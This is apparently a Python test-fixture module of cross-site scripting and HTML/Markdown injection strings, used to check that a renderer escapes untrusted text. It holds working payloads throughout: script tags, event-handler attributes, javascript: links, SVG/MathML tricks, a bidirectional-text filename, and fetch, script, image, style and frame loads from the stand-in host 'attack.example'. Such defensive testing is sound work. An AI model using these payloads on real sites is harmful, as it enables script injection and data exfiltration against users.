"""Texts that would act in a browser, wherever they were not escaped."""

from __future__ import annotations

HOST = "attack.example"
"""A host that no page may ask for anything."""

_RUN = "document.title='RAN';fetch('http://attack.example/ran')"

ACTIVE = {
    "script": f"<script>{_RUN}</script>",
    "script after an end": f"</p></div></article></main><script>{_RUN}</script>",
    "script after the end of a script": f"</script><script>{_RUN}</script>",
    "script after the end of a title": f"</title></style></textarea><script>{_RUN}</script>",
    "script from elsewhere": f"<script src=//{HOST}/x.js></script>",
    "script in SVG": f'<svg><script>{_RUN}</script></svg><svg onload="{_RUN}">',
    "script in MathML": f'<math><mtext><table><mglyph><style><img src=x onerror="{_RUN}">',
    "event": f'<img src=x onerror="{_RUN}">',
    "event in details": f'<details open ontoggle="{_RUN}"><summary>x</summary></details>',
    "event of a style": f'<style onload="{_RUN}"></style>',
    "event at once": f'<body onload="{_RUN}"><input autofocus onfocus="{_RUN}">',
    "attribute": f'" autofocus onfocus="{_RUN}" x="',
    "attribute in other quotes": f"' onmouseover='{_RUN}' x='",
    "attribute in a language": f'```x" onmouseover="{_RUN}\nx\n```',
    "class in a language": '```x message user article\nx\n```\n\n```"><b>\nx\n```',
    "attribute in a link": f'[x](http://x.y/"onmouseover="{_RUN}" "t" onclick="x")',
    "attribute in the title of a link": f"[x](http://x.y '\" onmouseover=\"{_RUN}')",
    "script in a link": f"[x](javascript:{_RUN}) <javascript:{_RUN}>",
    "script in a link in disguise": "[x](JaVa&#x09;Script&colon;alert(1)) [y](\\javascript:x)",
    "script in a link by reference": f"[x][y]\n\n[y]: javascript:{_RUN}",
    "page in a link": "[x](data:text/html,<script>alert(1)</script>) [y](vbscript:x)",
    "page in a frame": f'<iframe srcdoc="<script>{_RUN}</script>"></iframe>',
    "frame": f"<iframe src=http://{HOST}/f></iframe><object data=http://{HOST}/o></object>",
    "image": f"![x](http://{HOST}/i.png) ![y][z]\n\n[z]: http://{HOST}/z.png",
    "image as a tag": f"<img src=http://{HOST}/i.png><img srcset=//{HOST}/s.png>",
    "image in SVG": f"<svg><image href=http://{HOST}/i.png /></svg>",
    "style": f"<style>@import url(http://{HOST}/s.css);*{{display:none}}</style>",
    "style of an element": f'<p style="background:url(http://{HOST}/b.png);position:fixed">x</p>',
    "sheet": f"<link rel=stylesheet href=http://{HOST}/l.css><link rel=prefetch href=//{HOST}/>",
    "base": f"<base href=http://{HOST}/>",
    "refresh": f'<meta http-equiv=refresh content="0;url=http://{HOST}/r">',
    "form": f"<form action=http://{HOST}/f><button>x</button></form>",
    "media": f"<video src=http://{HOST}/v autoplay></video><audio src=//{HOST}/a></audio>",
    "id": "<p id=message-7>x</p><a name=outline href=#search>y</a>",
    "heading with an id": "# x {#message-7}\n\n### 7. User",
    "comment": "<!-- x --!> <script>",
    "unclosed comment": "<!--",
    "unclosed tag": "<img src='",
    "unclosed template": "<template><noscript><plaintext><xmp>",
    "character data": f"<![CDATA[<script>{_RUN}</script>]]>",
    "stand-ins": f"\x02script>{_RUN}\x02/script> \x03[x](http://{HOST}/) &#2;b> &#x3;",
    "stand-ins by number": f"&#2;script>{_RUN}&#2;/script> &lt;script>{_RUN}&lt;/script>",
    "entities": "&lt;img src=x onerror=alert(1)&gt; &#60;b&#62; &amp;lt;b&amp;gt;",
    "nested marks": "*a **b ~~c `d` " * 50,
    "what no page may contain": "\x80\x9f\ufdd0\ufffe\U0001ffff \x00\x0b\x1b",
    "turned text": "\u202e\u2066 <b>\u2069 gnp.exe",
}
